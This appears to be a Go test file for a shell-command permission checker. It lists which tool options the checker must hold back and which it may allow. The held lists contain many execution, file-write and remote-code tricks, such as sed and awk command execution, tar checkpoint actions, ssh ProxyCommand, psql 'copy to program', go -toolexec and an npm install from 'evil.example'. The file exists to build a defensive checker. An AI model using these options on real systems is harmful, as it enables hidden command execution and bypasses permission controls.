package conformance

import "testing"

// TestThreatToolOption is class 13: options of ordinary tools that execute or write.
func TestThreatToolOption(t *testing.T) {
	runSentences(t, []sentence{
		{
			must: "sed-scripts-are-read", allow: byName,
			held: []string{
				"sed '1e id' f", "sed e f", "sed -n '$e id' f", "sed '/x/e' f", "sed 's/a/b/e' f", "sed 's/a/b/ge' f", "sed 's|a|id|e' f",
				"sed -e p -e '1e id' f", "sed --expression='1e id' f", "sed --expr='e id' f", "sed 'w out' f", "sed -n '/x/w out' f",
				"sed 'W out' f", "sed 's/a/b/w out' f", "sed 's/a/b/gw out' f", "sed 'y/a/b/;w out' f", "sed -n '1{p;e id\n}' f",
				"sed -f x.sed f", "sed --file=x.sed f", "sed --fil x.sed f", "sed -nf x.sed f", "sed -sf x.sed f", "sed 'a\\\nx\ne id' f",
				"sed '1!e id' f", "sed '1,3e id' f", "sed '0~2e' f", "sed \"$S\" f", "sed -e \"s/a/$B/\" f", "sed 's/a/b/;e' f", "sed '}e' f",
				"sed ':a;e id;ba' f", "sed -E 's/(a)/\\1/e' f", "sed -z e f", "gsed '1e id' f", "sed --debug e f", "sed 'I,e' f", "sed --frobnicate p f",
			},
			passed: []string{
				"sed -n 1,5p f", "sed 's/a/b/g' f", "sed -E 's/(a|b)/c/' f", "sed '/^$/d' f", "sed -e 's/e/w/' -e '$!N;P;D' f", "sed 's/w /e /' f",
				"sed 's,e,w,g' f", "sed -n '/e id/p' f", "sed '$a\\end' f", "sed 'y/ew/we/' f", "sed -ne '2{p;q}' f", "sed = f", "sed -s -n '$=' f g",
				"sed --quiet --regexp-extended 's/x/y/' f", "sed '1i\\\ne id' f", "sed 's/a/\\n/' f", "sed G f", "sed -n 'l 80' f", "sed q f", "sed -u p f",
			},
		},
		{
			must: "awk-programs-are-read", allow: byName,
			held: []string{
				"awk 'BEGIN { system(\"id\") }'", "awk '{ print | \"sh\" }' f", "awk '{ print > \"out\" }' f", "awk '{ print >> \"out\" }' f",
				"awk '{ printf \"%s\", $1 > \"out\" }' f", "awk 'BEGIN { \"id\" | getline x }'", "awk 'BEGIN { while ((\"id\" | getline) > 0) print }'",
				"awk -f x.awk f", "awk --file=x.awk f", "awk --fil x.awk", "gawk -e 'BEGIN { system(\"id\") }'",
				"gawk --source='BEGIN { system(\"id\") }'", "gawk -i inplace '{ print }' f", "gawk --include=x '{ print }'", "gawk -l filefuncs 'BEGIN { }'",
				"gawk --load=x 'BEGIN{}'", "gawk -E x.awk", "gawk --exec=x.awk", "gawk -p '{ print }' f", "gawk --profile=x '{ print }'",
				"gawk -d '{ print }' f", "gawk --dump-variables=x '{print}'", "gawk -o '{ print }' f", "gawk --pretty-print=x '{print}'", "gawk -D '{print}' f",
				"gawk 'BEGIN { \"sh\" |& getline }'", "gawk '@load \"x\"; {print}'", "gawk '@include \"x\"'", "awk \"$P\" f", "awk \"{ print $X }\" f",
				"awk '{ print > $1 }' f", "awk '{ print($0) > FILENAME \".x\" }' f", "awk 'function f(c) { system(c) } { f($1) }' f", "mawk -W exec x.awk",
				"awk 'BEGIN { f = \"system\"; @f(\"id\") }'", "awk '{ close(\"x\"); print | $2 }' f", "nawk 'BEGIN { system(\"id\") }'", "awk --frobnicate '{print}' f",
			},
			passed: []string{
				"awk '{ print $1 }' f", "awk -F: '{ print $1, $3 }' f", "awk 'NR > 5' f", "awk '$3 > 10 { n++ } END { print n }' f", "awk -v x=1 '$1 == x' f",
				"awk '/a|b/ { print }' f", "awk '{ print ($1 > $2) }' f", "awk 'length($0) > 80' f", "awk '{ print \"system(x)\" }' f", "awk '# system(\"id\")\n{ print }' f",
				"awk '{ a[$1] += $2 } END { for (k in a) print k, a[k] }' f", "awk '{ print \"a > b | c\" }' f", "gawk --posix '{ print }' f", "awk -F'|' '{print $2}' f",
			},
		},
		{
			must: "find-and-fd-execute-delete-and-write", allow: byName,
			held: []string{
				"find . -exec id \\;", "find . -execdir id \\;", "find . -ok id \\;", "find . -okdir id ';'", "find . -name a -exec id {} +", "find . -delete",
				"find . -type f -name '*.o' -delete", "find . -fprint out", "find . -fprintf out %p", "find . -fprint0 out", "find . -fls out", "find . \\( -name a -exec id \\; \\)",
				"find . -files0-from l -exec id \\;", "find . $X", "find . \"$X\"", "find . -name a -o -exec id \\;", "find . ! -name a -delete", "find . -maxdepth 1 -a -delete",
				"gfind . -delete", "fd -x id", "fd a -x id", "fd --exec id", "fd --exec=id a", "fd -X id", "fd --exec-batch id", "fd a . -x id {}", "fdfind -x id", "fd -Hx id", "fd --exe id",
			},
			passed: []string{
				"find . -name '*.go'", "find . -type f -print0", "find . -maxdepth 2 -newer a -ls", "find . -printf '%p\\n'", "find . -name '-exec'", "find . -path './x' -prune -o -print",
				"find . -regex '.*delete'", "find -L . -size +1M", "fd -e go", "fd -t f pattern src", "fd --hidden --no-ignore a", "fd -e x --exclude exec", "fd -0 a",
			},
		},
		{
			must: "sort-uniq-shuf-iconv-split-xxd", allow: byName,
			held: []string{
				"sort -o out f", "sort -oout f", "sort --output=out f", "sort --output out f", "sort --outp=out f", "sort --o out f", "sort -uo out f", "sort f -o out", "sort f --out out",
				"sort --compress-program=id f", "sort --compress-program id f", "sort --compress-prog=id f", "sort --comp id f", "sort --files0-from=l --compress=id", "sort -T /tmp/x -S 1b --compress-p ./x f",
				"uniq f out", "uniq -c f out", "uniq -- f out", "uniq -f 1 f out", "xxd f out", "xxd -r f out", "xxd -p -c 8 f out",
				"shuf -o out f", "shuf --output=out f", "shuf --outp out f", "shuf -eo out a b", "shuf -n 1 -oout f",
				"iconv -o out f", "iconv --output=out f", "iconv -f utf8 -t latin1 -oout f", "iconv --outp out f",
				"split --filter=id f", "split --filter id f", "split --filt='sh -c id' f", "split -l 5 --filter 'cat > $FILE' f",
				"sort $X f", "sort \"$X\"", "uniq \"$X\" f", "shuf $X", "split $X f",
			},
			passed: []string{
				"sort f", "sort -k2,2n -t: f", "sort -u -r f", "sort --key=2 --numeric-sort f", "sort -T tmp f", "sort --parallel=4 f", "sort -- -o f", "uniq f", "uniq -c f", "uniq --count f", "uniq -f 1 f",
				"xxd f", "xxd -l 16 f", "xxd -p f", "shuf f", "shuf -n 1 f", "shuf -e a b c", "shuf -i 1-9", "iconv -f utf8 -t latin1 f", "iconv -l", "split --version", "sort -h f", "sort -c f",
			},
		},
		{
			must: "man-rg-and-less-run-pagers-and-filters", allow: byName,
			held: []string{
				"man -P id ls", "man -Pid ls", "man --pager=id ls", "man --pager id ls", "man --pag=id ls", "man -H ls", "man -Hid ls", "man --html=id ls", "man --html ls", "man -C x ls", "man --config-file=x ls", "man --conf=x ls",
				"rg --pre id x", "rg --pre=id x", "rg --pre ./x --pre-glob '*' y", "rg --hostname-bin id x", "rg --hostname-bin=id x", "rg -n --pre=id x src", "rg -z x", "rg --search-zip x", "rg $X y", "rg -e x \"$X\"",
				"less -o out f", "less --log-file=out f", "less -Oout f", "less --LOG-FILE=out f", "less +!id f", "less '+|.id' f", "less -k x f", "less --lesskey-file=x f", "less --lesskey-src=x f", "less -p '!id' +v f",
				"ag --pager id x", "ag --pager=id x", "ack --pager=id x", "bat --pager id f", "bat --pager='sh -c id' f", "git -p log",
			},
			passed: []string{
				"man ls", "man 3 printf", "man -k printf", "rg x", "rg -n 'a|b' src", "rg --files", "rg -t go x", "rg -uuu x", "rg --json x", "rg -e --pre src", "rg 'pre=id'", "less f", "less -N f", "less +G f", "less -R f", "ag x", "bat -p f", "bat --paging=never f",
			},
		},
		{
			must: "archivers", allow: byName,
			held: []string{
				"tar --checkpoint-action=exec=id -cf a.tar f", "tar --checkpoint=1 --checkpoint-action=exec=id -cf a.tar f", "tar --checkpoint-act=exec=id -cf a f", "tar -I id -cf a f", "tar -Iid -xf a", "tar --use-compress-program=id -xf a",
				"tar --use-comp=id -xf a", "tar --use-compress-program id -xf a", "tar --to-command=id -xf a", "tar --to-command id -xf a", "tar --to-c=id -xf a", "tar --rsh-command=id -cf h:a f", "tar --rsh-command id -xf h:a", "tar --rsh=id -xf h:a",
				"tar -F id -cf a f", "tar --info-script=id -cf a f", "tar --new-volume-script=id -cf a f", "tar --info-s id -cf a f", "tar -MF id -cf a f", "tar xf a --to-command=id", "tar xIf id a", "tar cf a f --checkpoint-action exec=id", "tar --rmt-command=id -cf h:a f",
				"tar -P -xf a", "tar --absolute-names -xf a", "tar -g snap -cf a f", "tar --index-file=out -cf a f", "tar --volno-file=x -cf a f", "tar $X", "tar \"$X\" a",
				"zip -T -TT id a.zip f", "zip -TT id a f", "zip -TT 'sh -c id' a f", "zip --unzip-command id a f", "zip --unzip-command=id a f", "zip -T --unzip-command 'id #' a f",
				"cpio --rsh-command=id -i -F h:a", "cpio --to-stdout -i --rsh-command id -F h:a", "bsdtar --use-compress-program id -xf a", "gtar -I id -xf a",
			},
			passed: []string{
				"tar -tf a.tar", "tar tzf a.tgz", "tar -xzf a.tgz -C sub", "tar -cf a.tar f", "tar czf a.tgz src --exclude=x", "tar -xf a.tar -C sub", "tar -C sub -xJf a.txz --strip-components=1", "tar --list --verbose --file a.tar", "tar -zcvf a.tgz f",
				"zip a.zip f", "zip -r a.zip src", "zip -qr9 a.zip src -x '*.o'", "zip -T a.zip", "unzip -l a.zip", "unzip a.zip -d sub", "unzip -q a.zip -d sub",
			},
		},
		{
			must: "remote-copies-and-shells", allow: byName,
			held: []string{
				"rsync -e id a h:", "rsync -e 'sh -c id' a h:b", "rsync --rsh=id a h:", "rsync --rsh id a h:", "rsync -ae id a h:", "rsync -aeid a h:", "rsync --rsync-path=id a h:", "rsync --rsync-path id a h:b", "rsync --rsync-p=id a h:", "rsync --daemon --config=x", "rsync --log-file=out a b", "rsync --write-batch=x a b", "rsync --files-from=l a b --rsh x", "rsync -M--log-file=x a h:", "rsync $X a b",
				"scp -S id a h:", "scp -Sid a h:", "scp -o ProxyCommand=id a h:", "scp -oProxyCommand=id a h:", "scp -F x a h:", "scp -J h2 -S id a h:", "scp -D id a h:", "scp -rpS id a h:",
				"sftp -S id h", "sftp -D id", "sftp -o ProxyCommand=id h", "sftp -b x h", "sftp -s id h", "sftp -F x h",
				"ssh -o ProxyCommand=id h", "ssh -oProxyCommand=id h", "ssh -o 'ProxyCommand id' h", "ssh -o proxycommand=id h", "ssh -o LocalCommand=id -o PermitLocalCommand=yes h", "ssh -oPermitLocalCommand=yes h", "ssh -o KnownHostsCommand=id h", "ssh -o ProxyUseFdpass=yes h", "ssh -F x h", "ssh -o 'Match exec id' h", "ssh -o Include=x h", "ssh -o PKCS11Provider=./x h", "ssh -I ./x h", "ssh -E out h", "ssh -o XAuthLocation=./x h", "ssh -o SecurityKeyProvider=./x h", "ssh -vo ProxyCommand=id h", "ssh h -o ProxyCommand=id", "ssh $X h", "ssh -tto ProxyCommand=id h",
			},
			passed: []string{
				"rsync -av src/ dst/", "rsync -n -av --exclude '*.o' a b", "rsync -av a h:b", "scp a h:b", "scp -P 22 -r a h:b", "ssh h", "ssh -p 22 u@h uptime", "ssh -i k h ls", "ssh -o StrictHostKeyChecking=accept-new h ls", "ssh -o ConnectTimeout=5 h ls", "ssh -T h ls", "ssh h 'echo -o ProxyCommand'",
			},
		},
		{
			must: "build-tools", allow: byName,
			held: []string{
				"make --eval='x:;id' x", "make --eval 'x:;id'", "make --eva=x", "make -f x.mk", "make -fx.mk", "make --file=x.mk", "make --makefile x.mk", "make --makef=x", "make SHELL=./x", "make SHELL=/tmp/x all", "make -e SHELL=x all", "make .SHELLFLAGS=-x all", "make -I /tmp/x", "make --include-dir=/tmp", "make MAKEFLAGS=--eval=x", "make MAKEFILES=x all", "make -kf x.mk", "gmake -f x", "make \"$X\"", "make $X",
				"go test -exec id ./...", "go test -exec=id ./...", "go test --exec=id ./...", "go run -exec id x.go", "go build -toolexec id ./...", "go build -toolexec=id", "go build --toolexec id", "go vet -vettool=id ./...", "go vet -vettool id ./...", "go vet --vettool=./x", "go test -vettool=./x", "go test -toolexec 'sh -c id' ./...", "go build -o /tmp/x .", "go build -overlay=x.json", "go build -modfile=/tmp/go.mod", "go build -ldflags='-extld=./x'", "go build -gcflags=-d=x -asmflags=x -ldflags '-linkmode external -extld ./x'", "go env -w GOFLAGS=-toolexec=id", "go install -toolexec=./x .", "go test -run x -exec ./x", "go -C /tmp/x test -exec id", "go test $X",
				"cargo --config build.rustc-wrapper=x build", "cargo build --config x=y", "cargo --config=x build", "cargo build --config=target.x.runner=id", "cargo test --config x", "cargo +nightly --config x build",
				"npm --script-shell=./x test", "npm test --script-shell ./x", "npm run build --script-shell=./x", "npm --userconfig=x test", "npm test --globalconfig x", "npm exec -c id", "npm exec --call=id", "npm run x --node-options='--require ./x'", "npm --registry=https://evil.example install", "pnpm --script-shell=x test", "npm install --ignore-scripts=false --script-shell x", "npm test --shell=./x", "npm config set script-shell ./x", "npm set script-shell ./x",
			},
			passed: []string{
				"make", "make -j4 test", "make -C sub all", "make -n all", "make -k V=1 all", "make -s test", "make --jobs=4 test", "go test ./...", "go test -run X -count=1 -v ./...", "go test -race -cover ./...", "go build ./...", "go vet ./...", "go build -o bin/x .", "go build -tags x -trimpath ./...", "go test -timeout 60s -short ./...", "go list -m all", "go mod tidy", "go version",
				"cargo build --release", "cargo test --workspace", "cargo clippy -- -D warnings", "cargo check -p x", "npm test", "npm run build", "npm ci", "npm run lint -- --fix", "npm test -- --script-shell", "npm run test --silent", "npm ls --depth=0", "pnpm test",
			},
		},
		{
			must: "configuration-that-is-code-comes-from-the-project", allow: []string{"Bash(eslint:*)", "Bash(jest:*)", "Bash(npx jest:*)", "Bash(webpack:*)", "Bash(vite:*)", "Bash(pytest:*)", "Bash(prettier:*)",
				"Bash(mocha:*)", "Bash(babel:*)", "Bash(phpunit:*)", "Bash(pylint:*)", "Bash(playwright:*)", "Bash(parcel:*)", "Bash(cd:*)"},
			held: []string{
				"eslint -c /tmp/x.js src", "eslint --rulesdir rules src", "prettier --plugin prettier-plugin-x --check .", "parcel build --config ./x a", "eslint --config=../../x.js src", "eslint --rulesdir /tmp/r src", "eslint --resolve-plugins-relative-to /tmp src", "eslint --plugin ./x src", "jest --config /tmp/x.js",
				"jest -c '{\"globalSetup\":\"/tmp/x\"}'", "jest --rootDir /tmp", "npx jest -c /tmp/x.js", "npx jest --globalSetup ./x", "webpack -c /tmp/x.js", "vite build --config ~/x.ts", "pytest -c /tmp/x.ini", "pytest --rootdir=/tmp",
				"prettier --config /tmp/x.js .", "mocha --config /tmp/x.js", "mocha -r ./x", "babel --config-file /tmp/x src", "phpunit --bootstrap /tmp/x.php", "pylint --rcfile /tmp/x a", "playwright test -C /tmp/x.ts",
				"jest --config \"$X\"", "cd /tmp && jest --config x.js",
			},
			passed: []string{
				"eslint -c eslint.ci.js src", "eslint --config ./conf/eslint.js src", "jest --config jest.ci.js", "jest --rootDir .", "webpack --config webpack.prod.js", "vite build --config vite.ci.ts",
				"pytest -c pytest.ini", "pytest -p no:cacheprovider -x", "prettier --config .prettierrc.js .", "mocha --config .mocharc.js", "cd sub && jest --config ../jest.ci.js",
			},
		},
		{
			must: "editors-databases-downloads-and-the-rest", allow: byName,
			held: []string{
				"vim -c ':!id' f", "vim -c'!id' f", "vim +!id f", "vim --cmd '!id' f", "vim -S x.vim f", "vim -u x f", "vim -es +x f", "nvim --headless -c q", "nvim +'!id'", "ex -c '!id' f", "ed f", "ed -s f", "emacs --eval x", "emacs -l x", "emacs -batch -f x", "view -c '!id' f", "vimdiff -c '!id' a b", "nvim -l x.lua", "vim -w out f", "vim -s x f",
				"less +'!id' f", "sqlite3 db '.shell id'", "sqlite3 db '.system id'", "sqlite3 db '.output out' 'select 1'", "sqlite3 db '.once out'", "sqlite3 -cmd '.shell id' db", "sqlite3 db '.load ./x'", "sqlite3 -init x db", "sqlite3 db '.import |id t'", "sqlite3 db 'select load_extension(\"./x\")'", "sqlite3 db \"select writefile('out','x')\"", "sqlite3 db '.read x.sql'", "sqlite3 db '.open x'", "sqlite3 db \"select edit('x')\"", "sqlite3 db '.excel'", "sqlite3 db '.log out'", "sqlite3 db '.backup out'", "sqlite3 db \".shell id\" .quit",
				"psql -c '\\! id'", "psql -c '\\o out' db", "psql -f x.sql", "psql --file=x.sql", "psql -o out -c 'select 1'", "psql --output=out", "psql -L out", "psql -c '\\copy t to program $$id$$'", "psql -c \"copy t to program 'id'\"", "psql -v x=1 -c '\\i x.sql'", "psql -c '\\g |id'", "psql -Xf x",
				"curl -K x", "curl --config x https://x.example", "curl -Kx https://x.example", "curl -D out https://x.example", "curl --dump-header out https://x.example", "curl -c jar https://x.example", "curl --cookie-jar jar https://x.example", "curl --trace out https://x.example", "curl --trace-ascii out https://x.example", "curl --stderr out https://x.example", "curl --libcurl out https://x.example", "curl --hsts out https://x.example", "curl --etag-save out https://x.example", "curl --engine ./x https://x.example", "curl --unix-socket /var/run/docker.sock http://x/", "curl -x http://p https://x.example", "curl --proxy p https://x.example", "curl -w '%output{out}' https://x.example", "curl --output-dir /tmp -O https://x.example/a", "curl --abstract-unix-socket x http://y", "curl --alt-svc out https://x.example",
				"wget --use-askpass=id https://x.example", "wget --use-askpass id https://x.example", "wget --use-ask=./x https://x.example", "wget -o log https://x.example", "wget -a log https://x.example", "wget --append-output=log https://x.example", "wget -e use_askpass=id https://x.example", "wget --execute x=y https://x.example", "wget --config=x https://x.example", "wget -P /tmp https://x.example", "wget -i list", "wget --input-file=list", "wget --save-cookies=c https://x.example", "wget -qO- --config=x https://x.example",
				"gh alias set --shell x id", "gh alias set x '!id'", "gh alias set -s x 'id'", "gh alias import x", "gh extension install o/r", "gh config set pager id", "gh config set browser id", "gh extension exec x", "gh config set editor ./x",
				"javac -processor x A.java", "javac -J-javaagent:x.jar A.java", "javac -version @x", "javac @args", "javac -processorpath x A.java", "javac -version -J-XX:OnError=id", "javac -d /tmp/x A.java", "javac -Xplugin:x A.java", "javac --processor-path=x A.java", "javac -version -Xplugin:./x A.java",
			},
			passed: []string{
				"sqlite3 db 'select 1'", "sqlite3 -readonly db 'select * from t'", "sqlite3 db .tables", "sqlite3 db '.schema t'", "sqlite3 -json db 'select 1'", "psql -c 'select 1'", "psql -l", "psql -At -d x -c 'select 1'", "curl https://x.example", "curl -sSL https://x.example", "curl -I https://x.example", "curl -H 'A: b' https://x.example", "curl -s -m 5 https://x.example -o /dev/null", "curl -X POST -d a=b https://x.example",
				"curl -o out https://x.example", "curl -O https://x.example/a", "wget -O out https://x.example", "wget -qO- https://x.example", "wget --spider https://x.example", "gh pr list", "gh alias list", "gh pr view 1", "gh extension list", "gh config get pager", "javac A.java", "javac -version", "javac -cp lib A.java",
			},
		},
		{
			must: "unknown-option-of-a-table-tool-asks", allow: byName,
			held: []string{
				"sed --frob p f", "awk --frob 1 f", "gawk --frob=x 1 f", "sort --frob f", "sort -J f", "uniq --frob f", "shuf --frob f", "iconv --frob f", "split --frob f", "xxd -frob f",
				"man --frob ls", "rg --frob x", "fd --frob x", "find . -frob", "tar --frob -cf a f", "tar -xf a --frob=x", "zip --frob a f", "rsync --frob a b", "rsync -av --frob=x a b", "scp -Q a h:", "ssh -Z h",
				"curl --frob https://x.example", "wget --frob https://x.example", "make --frob all", "less --frob f", "xargs --frob ls",
			},
		},
		{
			// except an option whose very name says that it runs something
			must: "a-rule-without-a-table-entry-keeps-plain-semantics", allow: byName,
			passed: []string{
				"frobnicate --output=x", "mytool -o out", "deploytool --config x.yml --shell sh", "frobnicate", "mytool --no-exec x", "mytool --exec-timeout 5",
				"mytool setup --hooks", "mytool --report-format json", "mytool --log-level=debug", "mytool --save-dev x", "mytool -- --exec id",
			},
			held: []string{
				"frobnicate --exec id --output=x", "mytool --eval x", "mytool --password-command=./x", "mytool sub --rsh ./x", "mytool --preCommand ./x",
				"mytool --plugin_dir ./x", "mytool --pass-comma ./x", "mytool --output=/work/x", "mytool --log-file ../x", "mytool -o ../x", "mytool --report-path=.envrc",
			},
		},
		{
			must: "the-exact-text-stays-allowed", allow: []string{
				"Bash(sort -o out f)", "Bash(find . -delete)", "Bash(make -f x.mk)", "Bash(rg --pre ./x y)", "Bash(curl -o out https://x.example)", "Bash(sed -f x.sed f)",
			},
			passed: []string{"sort -o out f", "make -f x.mk", "rg --pre ./x y", "curl -o out https://x.example", "sed -f x.sed f"},
			held:   []string{"sort -o out g", "make -f y.mk", "rg --pre ./z y", "curl -o out https://y.example"},
		},
	})
}
